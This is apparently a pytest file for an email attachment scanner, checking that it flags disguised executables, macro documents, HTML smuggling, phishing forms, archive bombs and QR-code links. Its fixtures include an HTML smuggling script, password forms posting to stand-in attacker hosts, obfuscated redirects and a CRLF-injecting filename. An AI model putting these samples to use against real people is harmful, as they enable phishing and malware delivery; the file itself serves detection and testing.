"""check_attachments on crafted messages: each symbol fires on its attack with the evidence
named, and ordinary attachments (a PDF, a zip of text files, a photo, a plain docx) stay quiet."""

from __future__ import annotations

import gzip
import io
from email.message import EmailMessage

import numpy as np
import pytest
from pydantic import ValidationError

from relaywarden.scan.checks.attachments import AttachmentConfig, check_attachments, extensions, shown_name
from relaywarden.scan.context import ScanContext
from relaywarden.scan.message import Attachment
from relaywarden.scan.mime import MimeLimits, parse_message
from relaywarden.scan.verdict import Symbol, Thresholds, Verdict
from tests.scan.test_mime import MiB, attach, message, qr_png, tar_bytes, zeros_zip, zip_bytes

CTX = ScanContext()
PE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(120) + b"PE\x00\x00"
PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def scan(*files: tuple[bytes, str, str], cfg: AttachmentConfig | None = None,
         limits: MimeLimits | None = None) -> dict[str, Symbol]:
    msg = message("Please see the attachment.")
    for data, name, ctype in files:
        attach(msg, data, name, ctype)
    symbols = check_attachments(parse_message(msg.as_bytes(), limits), CTX, cfg or AttachmentConfig())
    names = [s.name for s in symbols]
    assert len(names) == len(set(names)), "one symbol per kind of finding"
    return {s.name: s for s in symbols}


def test_executable_by_name_and_by_content() -> None:
    found = scan((PE, "setup.exe", "application/octet-stream"))
    assert set(found) == {"ATTACH_EXECUTABLE"}
    sym = found["ATTACH_EXECUTABLE"]
    assert sym.score == 8.0 and "setup.exe" in sym.description
    assert sym.banner == "The attachment setup.exe is a program: opening it could install malware."
    elf = scan((b"\x7fELF\x02\x01\x01" + bytes(50), "update", "application/octet-stream"))
    assert "ATTACH_EXECUTABLE" in elf


def test_program_disguised_as_pdf_is_a_type_mismatch() -> None:
    found = scan((PE, "invoice.pdf", "application/pdf"))
    assert set(found) == {"ATTACH_EXECUTABLE", "ATTACH_TYPE_MISMATCH"}
    assert "invoice.pdf (named .pdf but the content is exe)" in found["ATTACH_TYPE_MISMATCH"].description
    html_as_pdf = scan((b"<!DOCTYPE html><html><body>Sign in</body></html>", "statement.pdf", "application/pdf"))
    assert "ATTACH_TYPE_MISMATCH" in html_as_pdf


@pytest.mark.parametrize("name", ["invoice.pdf.exe", "Invoice.PDF .exe", "scan.jpg.js", "invoice.pdf          .exe",
                                  "report.docx.scr.", "Invoice_\u202efdp.scr"])
def test_double_extension_and_direction_tricks(name: str) -> None:
    found = scan((b"just bytes", name, "application/octet-stream"))
    assert "ATTACH_DOUBLE_EXTENSION" in found
    assert "ATTACH_EXECUTABLE" in found or "ATTACH_SCRIPT" in found
    assert "disguised" in found["ATTACH_DOUBLE_EXTENSION"].banner


def test_right_to_left_override_is_made_visible_in_the_evidence() -> None:
    found = scan((b"x", "Invoice_\u202efdp.scr", "application/octet-stream"))
    assert "Invoice_[U+202E]fdp.scr" in found["ATTACH_DOUBLE_EXTENSION"].description


def test_scripts_inside_archives_name_their_path() -> None:
    found = scan((zip_bytes({"docs/readme.txt": b"hi", "docs/run.js": b"WScript.Shell"}), "files.zip",
                  "application/zip"))
    assert set(found) == {"ATTACH_SCRIPT"}
    assert "files.zip/docs/run.js" in found["ATTACH_SCRIPT"].description
    tgz = gzip.compress(tar_bytes({"invoice.exe": PE}))
    found = scan((tgz, "invoice.tgz", "application/gzip"))
    assert "invoice.tgz/invoice.tar/invoice.exe" in found["ATTACH_EXECUTABLE"].description
    assert "ATTACH_SCRIPT" in scan((b"L\x00\x00\x00", "photo.lnk", "application/octet-stream"))
    assert "ATTACH_SCRIPT" in scan((b"<HTA:APPLICATION>", "update.hta", "application/hta"))


def test_macro_office_by_name_and_by_content() -> None:
    docm = zip_bytes({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    assert set(scan((docm, "order.docm", "application/octet-stream"))) == {"ATTACH_MACRO_OFFICE"}
    renamed = scan((docm, "order.docx", "application/octet-stream"))
    assert set(renamed) == {"ATTACH_MACRO_OFFICE"}
    ole = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(200) + "_VBA_PROJECT".encode("utf-16-le")
    assert "old.xls" in scan((ole, "old.xls", "application/vnd.ms-excel"))["ATTACH_MACRO_OFFICE"].description


def test_disk_images() -> None:
    iso = bytes(0x8001) + b"CD001" + bytes(100)
    found = scan((iso, "delivery.iso", "application/octet-stream"))
    assert set(found) == {"ATTACH_DISK_IMAGE"}
    assert "ATTACH_DISK_IMAGE" in scan((iso, "delivery.bin2", "application/octet-stream"))
    assert "ATTACH_DISK_IMAGE" in scan((b"vhdxfile", "disk.vhdx", "application/octet-stream"))
    allow_iso = AttachmentConfig(allowed_extensions=["iso"])
    assert scan((iso, "delivery.iso", "application/octet-stream"), cfg=allow_iso) == {}


def test_encrypted_archive() -> None:
    data = bytearray(zip_bytes({"payment.doc": b"x" * 100}))
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(sig) + off] |= 0x01
    found = scan((bytes(data), "payment.zip", "application/zip"))
    assert set(found) == {"ATTACH_ENCRYPTED_ARCHIVE"}
    assert "payment.zip" in found["ATTACH_ENCRYPTED_ARCHIVE"].description
    assert "password-protected" in found["ATTACH_ENCRYPTED_ARCHIVE"].banner


SMUGGLER = b"""<html><body><script>
var b = atob("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");
var blob = new Blob([b], {type: "application/octet-stream"});
var a = document.createElement("a"); a.href = URL.createObjectURL(blob); a.download = "invoice.iso"; a.click();
</script></body></html>"""
PHISH_PAGE = b"""<html><body><h1>Microsoft 365</h1><form action="https://collect.evil.example/p.php" method="post">
<input type="email" name="login"><input type="password" name="passwd"><input type=submit></form></body></html>"""


def test_html_smuggling() -> None:
    found = scan((SMUGGLER, "invoice.html", "text/html"))
    assert set(found) == {"ATTACH_HTML_SMUGGLING"}
    desc = found["ATTACH_HTML_SMUGGLING"].description
    assert "invoice.html (atob, Blob, createObjectURL, download attribute)" in desc
    data_link = b'<a href="data:application/octet-stream;base64,TVqQ" download="x.exe">get</a>'
    assert "ATTACH_HTML_SMUGGLING" in scan((data_link, "doc.htm", "application/octet-stream"))
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>go()</script></svg>'
    found = scan((svg, "voice.svg", "image/svg+xml"))
    assert "voice.svg (script in an SVG image)" in found["ATTACH_HTML_SMUGGLING"].description
    redirect = b"<html><body onload=\"location.href=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')\"></body></html>"
    assert "ATTACH_HTML_SMUGGLING" in scan((redirect, "fax.html", "text/html"))
    # one weak sign alone is not smuggling: a report that decodes an embedded image
    report = b"<html><script>var img = atob(data);</script><p>Quarterly report</p></html>"
    assert scan((report, "report.html", "text/html")) == {}


def test_html_form_attachment() -> None:
    found = scan((PHISH_PAGE, "secure-message.html", "text/html"))
    assert set(found) == {"ATTACH_HTML_FORM"}
    assert ("secure-message.html (a password form posting to https://collect.evil.example/p.php)"
            in found["ATTACH_HTML_FORM"].description)


def test_archive_bomb_forces_quarantine() -> None:
    found = scan((zeros_zip(32 * MiB), "bomb.zip", "application/zip"))
    assert set(found) == {"ARCHIVE_BOMB"}
    bomb = found["ARCHIVE_BOMB"]
    assert bomb.force == "quarantine" and "bomb.zip/zeros.bin declares" in bomb.description
    verdict = Verdict.from_symbols(list(found.values()), Thresholds())
    assert verdict.action == "quarantine"
    rejecting = scan((zeros_zip(32 * MiB), "bomb.zip", "application/zip"), cfg=AttachmentConfig(bomb_action="reject"))
    assert rejecting["ARCHIVE_BOMB"].force == "reject"


def test_nested_archives_are_a_bomb() -> None:
    data = b"MZ"
    for level in range(20, 0, -1):
        data = zip_bytes({f"l{level}.zip": data})
    found = scan((data, "l0.zip", "application/zip"))
    assert "ARCHIVE_BOMB" in found
    assert "nested more than 3 levels deep" in found["ARCHIVE_BOMB"].description


def test_mime_limit_is_technical_and_optionally_forced() -> None:
    files = [(b"x", f"f{i}.txt", "text/plain") for i in range(12)]
    found = scan(*files, limits=MimeLimits(max_parts=5))
    assert set(found) == {"MIME_LIMIT"}
    assert found["MIME_LIMIT"].banner == "" and found["MIME_LIMIT"].force is None
    assert "more than 5 MIME parts" in found["MIME_LIMIT"].description
    forced = scan(*files, limits=MimeLimits(max_parts=5), cfg=AttachmentConfig(limit_action="quarantine"))
    assert forced["MIME_LIMIT"].force == "quarantine"


def test_qr_code_url() -> None:
    found = scan((qr_png("https://login.evil.example/mfa?u=1"), "scan-me.png", "image/png"))
    assert set(found) == {"QR_CODE_URL"}
    sym = found["QR_CODE_URL"]
    assert "https://login.evil.example/mfa?u=1" in sym.description
    assert "login.evil.example" in sym.banner


def test_qr_symbols_are_one_per_url_and_bounded() -> None:
    msg = message("scan")
    for url in ("https://a.example/", "https://a.example/", "https://b.example/"):
        attach(msg, qr_png(url), "code.png", "image/png")
    symbols = check_attachments(parse_message(msg.as_bytes()), CTX, AttachmentConfig())
    assert [s.description for s in symbols] == ["An image holds a QR code that leads to https://a.example/.",
                                                 "An image holds a QR code that leads to https://b.example/."]
    capped = check_attachments(parse_message(msg.as_bytes()), CTX, AttachmentConfig(max_qr_symbols=1))
    assert len(capped) == 1


def photo_png() -> bytes:
    from PIL import Image

    rng = np.random.default_rng(7)
    pixels = rng.integers(0, 255, size=(240, 320, 3), dtype=np.uint8)
    buf = io.BytesIO()
    Image.fromarray(pixels, "RGB").save(buf, "PNG")
    return buf.getvalue()


def test_clean_attachments_do_not_fire() -> None:
    docx = zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
    protected_xlsx = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(100) + "EncryptedPackage".encode("utf-16-le")
    text_zip = zip_bytes({"notes/a.txt": b"minutes", "notes/b.csv": b"a,b\n1,2\n"})
    found = scan((PDF, "Invoice 2024-03.pdf", "application/pdf"),
                 (text_zip, "notes.zip", "application/zip"),
                 (photo_png(), "holiday.png", "image/png"),
                 (docx, "report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
                 (b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "invite.ics", "text/calendar"),
                 (protected_xlsx, "salaries.xlsx", "application/octet-stream"),
                 (b"<html><table><tr><td>1</td></tr></table></html>", "export.xls", "application/vnd.ms-excel"),
                 (b"<html><body><p>Newsletter</p><a href='https://example.org'>read</a></body></html>",
                  "newsletter.html", "text/html"))
    assert found == {}


def test_config_overrides_and_validation() -> None:
    cfg = AttachmentConfig(scores={"ATTACH_DISK_IMAGE": 1.5}, extra_executable_extensions=[".XYZ"],
                           allowed_extensions=["iso"])
    assert cfg.extra_executable_extensions == ["xyz"]
    assert scan((b"x", "tool.xyz", "application/octet-stream"), cfg=cfg)["ATTACH_EXECUTABLE"].score == 8.0
    assert scan((b"x", "image.iso", "application/octet-stream"), cfg=cfg) == {}
    assert scan((b"x", "image.img", "application/octet-stream"), cfg=cfg)["ATTACH_DISK_IMAGE"].score == 1.5
    # a program is still a program whatever name the organisation allows
    assert "ATTACH_EXECUTABLE" in scan((PE, "image.iso", "application/octet-stream"), cfg=cfg)
    with pytest.raises(ValidationError, match="ATTACH_TYPO"):
        AttachmentConfig(scores={"ATTACH_TYPO": 1.0})
    with pytest.raises(ValidationError):
        AttachmentConfig(unknown_key=1)  # type: ignore[call-arg]


def test_name_helpers() -> None:
    assert extensions("Invoice.PDF .exe. ") == ["pdf", "exe"]
    assert extensions("a\u202efdp.exe") == ["exe"]
    att = Attachment(filename="x\u202eexe.pdf", content_type="", size=0, data=b"", container="a.zip")
    assert shown_name(att) == "a.zip/x[U+202E]exe.pdf"


def test_names_with_control_characters_cannot_inject_lines() -> None:
    raw = (b"From: a@example.org\nContent-Type: multipart/mixed; boundary=z\n\n--z\n"
           b"Content-Type: application/octet-stream\n"
           b"Content-Disposition: attachment; filename*=utf-8''evil%0D%0AX-Injected%3A%201.exe\n\nMZ\n--z--\n")
    found = {s.name: s for s in check_attachments(parse_message(raw), CTX, AttachmentConfig())}
    sym = found["ATTACH_EXECUTABLE"]
    assert "evil[U+000D][U+000A]X-Injected: 1.exe" in sym.description
    assert "\r" not in sym.description + sym.banner and "\n" not in sym.description + sym.banner
    damaged = zip_bytes({"a.txt": b"x"})[:-30]
    msg = message()
    attach(msg, damaged, "cut\u202e.zip", "application/zip")
    assert any("cut[U+202E].zip" in d for d in parse_message(msg.as_bytes()).defects)


def test_hostile_messages_give_symbols_not_exceptions() -> None:
    raw_cases = [
        b"Content-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: application/zip; name=a.zip\n"
        b"Content-Transfer-Encoding: base64\n\nUEsDBAAAAAAAAA==\n",
        b"Content-Type: image/png; name=\"\xff\xfe.png\"\n\n\x89PNG\r\n\x1a\n\x00\x00",
        b"Content-Disposition: attachment; filename*=utf-8''%E2%80%AE%ZZ.exe\n\nMZ",
    ]
    for raw in raw_cases:
        symbols = check_attachments(parse_message(raw), CTX, AttachmentConfig())
        assert all(isinstance(s, Symbol) and s.description for s in symbols)


def test_attachment_check_reads_a_realistic_multipart_email() -> None:
    msg = EmailMessage()
    msg["From"] = "Accounts <billing@supplier.example>"
    msg["To"] = "ap@example.org"
    msg["Subject"] = "Overdue invoice"
    msg.set_content("Please pay the attached invoice today.")
    msg.add_alternative("<p>Please pay the attached <b>invoice</b> today.</p>", subtype="html")
    payload = zip_bytes({"Invoice_0423.pdf.js": b"new ActiveXObject('WScript.Shell').Run('calc')"})
    msg.add_attachment(payload, maintype="application", subtype="zip", filename="Invoice_0423.zip")
    symbols = check_attachments(parse_message(msg.as_bytes()), CTX, AttachmentConfig())
    assert {s.name for s in symbols} == {"ATTACH_SCRIPT", "ATTACH_DOUBLE_EXTENSION"}
    verdict = Verdict.from_symbols(symbols, Thresholds())
    assert verdict.action == "reject" and verdict.score == 16.0
    assert any("Invoice_0423.zip/Invoice_0423.pdf.js" in r for r in verdict.banner_reasons())


def test_what_an_html_attachments_script_hides_is_decoded_and_judged() -> None:
    import base64
    form = (b'<form method="POST" action="https://cdn-auth-sync.example/next.php"><input type="password" name="p">'
            b"</form>")
    page = b'<html><body><script>document.write(atob("' + base64.b64encode(form) + b'"));</script></body></html>'
    found = scan((page, "Payment_Confirmation.html", "text/html"))
    assert "a password form posting to https://cdn-auth-sync.example/next.php" in found["ATTACH_HTML_FORM"].description
    assert "markup written from decoded text" in found["ATTACH_HTML_SMUGGLING"].description
    codes = ",".join(str(ord(c)) for c in "https://secure-ach-portal.example/view/").encode()
    redirect = (b"<html><script>var a=[" + codes + b"];var u='';"
                b"for(var i=0;i<a.length;i++){u+=String.fromCharCode(a[i]);}"
                b"window['loc'+'ation']['rep'+'lace'](u);</script></html>")
    found = scan((redirect, "ACH_Remittance.shtml", "text/html"))
    assert "text hidden as character codes, names assembled from pieces" in found["ATTACH_HTML_SMUGGLING"].description
    links = [link.href for link in parse_message(_with(redirect, "ACH_Remittance.shtml")).links]
    assert links == ["https://secure-ach-portal.example/view/"]
    # an ordinary script with a short base64 string and a small number list hides nothing
    plain = b"<html><script>var t='aGVsbG8=';var n=[1,2,3];</script><p>Report</p></html>"
    assert parse_message(_with(plain, "report.html")).links == [] and scan((plain, "report.html", "text/html")) == {}


def _with(data: bytes, name: str) -> bytes:
    msg = message("Please see the attachment.")
    attach(msg, data, name, "text/html")
    return msg.as_bytes()


def test_onenote_notebooks_are_treated_as_scripts() -> None:
    found = scan((b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d" + bytes(64), "Shipping_Documents.one", "application/onenote"))
    assert "Shipping_Documents.one" in found["ATTACH_SCRIPT"].description


def test_script_payloads_that_do_not_decode_are_ignored() -> None:
    from relaywarden.scan.mime import script_payloads
    junk = ('var a="' + "A" * 41 + '!"; var b=[' + ",".join(["999"] * 20) + "]; var c='"
            + "QUJD" * 11 + "';")  # not base64, codes out of range, base64 of plain text without markup
    assert script_payloads(junk) == []
